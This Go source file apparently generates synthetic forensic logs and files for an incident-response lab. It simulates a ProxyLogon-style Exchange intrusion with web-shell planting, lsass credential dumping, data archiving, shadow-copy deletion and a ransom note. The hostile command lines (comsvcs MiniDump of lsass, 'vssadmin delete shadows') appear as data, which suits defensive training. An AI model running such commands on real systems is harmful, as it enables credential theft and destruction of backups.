package lab

import (
	"fmt"
	"time"
)

const (
	worker    = `C:\Windows\System32\inetsrv\w3wp.exe`
	system32  = `C:\Windows\System32\`
	authority = `NT AUTHORITY\SYSTEM`
	demoGUID  = "5f0e6c1a-93d4-4f2b-8e57-0c6a2d9b7741"
)

// demoIntrusion is the night of 3 March 2021 on MAIL01.
func demoIntrusion(s *server) {
	const canary = "pT9dN2xvQ0eXw1.Lb7kUo3Rz5hYc8sA"
	ddi := "/ecp/DDI/DDIService.svc/"
	query := "?msExchEcpCanary=" + canary + ".&schema="
	for _, b := range []bypass{
		{at: clock("2021-03-03T02:14:07.412Z"), agent: "ExchangeServicesClient/0.0.0.0", path: "/autodiscover/autodiscover.xml?", status: 200},
		{at: clock("2021-03-03T02:14:08.935Z"), path: "/mapi/emsmdb/?", status: 200},
		{at: clock("2021-03-03T02:14:10.118Z"), path: "/ecp/proxyLogon.ecp?", status: 241},
		{at: clock("2021-03-03T02:14:12.604Z"), path: ddi + "GetObject" + query + "OABVirtualDirectory", status: 200},
		{at: clock("2021-03-03T02:14:15.231Z"), path: ddi + "SetObject" + query + "OABVirtualDirectory", status: 200},
		{at: clock("2021-03-03T02:14:18.775Z"), path: ddi + "SetObject" + query + "ResetOABVirtualDirectory", status: 200},
	} {
		if b.agent == "" {
			b.agent = "python-requests/2.25.1"
		}
		b.client, b.host, b.stem = demoIntruder, s.host, "/ecp/w7.js"
		s.ssrf(b)
	}
	address := "http://f/" + shellScript(demoKey)
	quoted := "'" + demoGUID + "'"
	set := ddi + "SetObject" + query
	s.ecpCommand(clock("2021-03-03T02:14:12.377Z"), ddi+"GetObject"+query+"OABVirtualDirectory", "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "")
	s.ecpCommand(clock("2021-03-03T02:14:15.002Z"), set+"OABVirtualDirectory", "Set-OabVirtualDirectory.ExternalUrl='"+address+"'.Identity="+quoted, "")
	s.ecpCommand(clock("2021-03-03T02:14:17.870Z"), set+"ResetOABVirtualDirectory", "Remove-OABVirtualDirectory.Force=$true.Identity='"+s.name+`\OAB (Default Web Site)'`, "")
	s.ecpCommand(clock("2021-03-03T02:14:18.690Z"), set+"ResetOABVirtualDirectory", "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='"+s.name+"'.Role='ClientAccess'.InternalURL='https://"+s.fqdn()+"/OAB'", "")
	s.management(clock("2021-03-03T02:14:15.010Z"), "Set-OabVirtualDirectory", fmt.Sprintf(`-ExternalUrl "%s" -Identity "%s"`, address, demoGUID), "ECP")
	s.management(clock("2021-03-03T02:14:17.900Z"), "Remove-OabVirtualDirectory", fmt.Sprintf(`-Force "True" -Identity "%s\OAB (Default Web Site)"`, s.name), "ECP")
	s.management(clock("2021-03-03T02:14:18.720Z"), "New-OabVirtualDirectory", fmt.Sprintf(`-WebSiteName "Default Web Site" -Server "%s" -Role "ClientAccess"`, s.name), "ECP")
	s.application(clock("2021-03-03T02:14:15.060Z"), "MSExchange Control Panel", 47, 4, "Administrator", "S-1-5-21-3623811015-3361044348-30300820-500", "Command: 'SetObject'")
	s.shareWrite(clock("2021-03-03T02:14:18.402Z"), `inetpub\wwwroot\aspnet_client\system_web\k3nXq8Zd.aspx`)
	s.created(clock("2021-03-03T02:14:18.431Z"), "System", `C:\inetpub\wwwroot\aspnet_client\system_web\k3nXq8Zd.aspx`, 4)

	s.web(request{at: clock("2021-03-03T02:15:31.090Z"), method: "GET", stem: demoShell, client: demoIntruder, agent: "python-requests/2.25.1", status: 200})
	s.scan(clock("2021-03-03T02:15:32Z"), "203.0.113.9", "Mozilla/5.0 zgrab/0.x", 404, "/aspnet_client/system_web/dkWe31Pa.aspx", "/aspnet_client/discover.aspx")
	s.command("2021-03-03T02:16:02.550Z", `cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client"&whoami&echo [S]&cd&echo [E]`, "whoami.exe", "whoami")
	s.command("2021-03-03T02:19:44.120Z", `cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client"&net group "Domain Admins" /domain&echo [S]&cd&echo [E]`, "net.exe", `net  group "Domain Admins" /domain`)
	dump := s.command("2021-03-03T02:31:20.870Z", `cmd /c cd /d "C:\Windows\Temp"&rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 636 C:\Windows\Temp\lsass.dmp full&echo [S]&cd&echo [E]`,
		"rundll32.exe", `rundll32.exe  C:\windows\system32\comsvcs.dll, MiniDump 636 C:\Windows\Temp\lsass.dmp full`)
	s.accessed(clock("2021-03-03T02:31:21.210Z"), system32+"rundll32.exe", system32+"lsass.exe", 0x1fffff, dump)
	s.created(clock("2021-03-03T02:31:21.400Z"), system32+"rundll32.exe", `C:\Windows\Temp\lsass.dmp`, dump)
	s.files = append(s.files,
		File{s.name + "/C/inetpub/wwwroot" + demoShell, vdirDump(s, address, demoGUID, clock("2021-03-03T02:14:15Z"))},
		File{s.name + "/C/inetpub/wwwroot/status.aspx", statusPage()},
		File{s.name + "/C/Users/Administrator/Documents/oab-einstellungen.txt", vdirDump(s, "https://"+s.host+"/OAB", demoGUID, clock("2020-11-20T09:12:44Z"))})
}

// command is one use of the web shell: the request, the command processor
// below the web server and the program that it starts, whose id is returned.
func (s *server) command(at, line, program, args string) int {
	t := clock(at)
	s.web(request{at: t, method: "POST", stem: demoShell, client: demoIntruder, agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", status: 200, taken: 600 + s.p.below(900)})
	shell, pid := 7000+s.p.below(500)*4, 9200+s.p.below(500)*4
	s.start(process{at: t.Add(120 * time.Millisecond), image: system32 + "cmd.exe", command: line, parent: worker, user: authority, pid: shell, ppid: 6832})
	image := system32 + program
	if program == "7z.exe" {
		image = `C:\ProgramData\7z.exe`
	}
	s.start(process{at: t.Add(190 * time.Millisecond), image: image, command: args, parent: system32 + "cmd.exe", user: authority, pid: pid, ppid: shell})
	return pid
}

// demoAftermath is what followed: mail packed on 5 March, the ransom note on
// 11 March.
func demoAftermath(s *server) {
	zip := s.command("2021-03-05T01:22:09.330Z", `cmd /c cd /d "C:\ProgramData"&7z.exe a C:\ProgramData\it.zip C:\Daten\Rathaus -mx1&echo [S]&cd&echo [E]`, "7z.exe", `7z.exe  a C:\ProgramData\it.zip C:\Daten\Rathaus -mx1`)
	s.created(clock("2021-03-05T01:22:10.015Z"), `C:\ProgramData\7z.exe`, `C:\ProgramData\it.zip`, zip)
	s.command("2021-03-11T23:05:41.200Z", `cmd /c vssadmin.exe delete shadows /all /quiet&echo [S]&cd&echo [E]`, "vssadmin.exe", `vssadmin.exe  delete shadows /all /quiet`)
	s.created(clock("2021-03-11T23:41:07.500Z"), `C:\Windows\Temp\svc32.exe`, `C:\Users\Public\Desktop\READ_ME_NOW.txt`, 8816)
	s.files = append(s.files, File{s.name + "/C/Users/Public/Desktop/READ_ME_NOW.txt", ransomNote()})
}
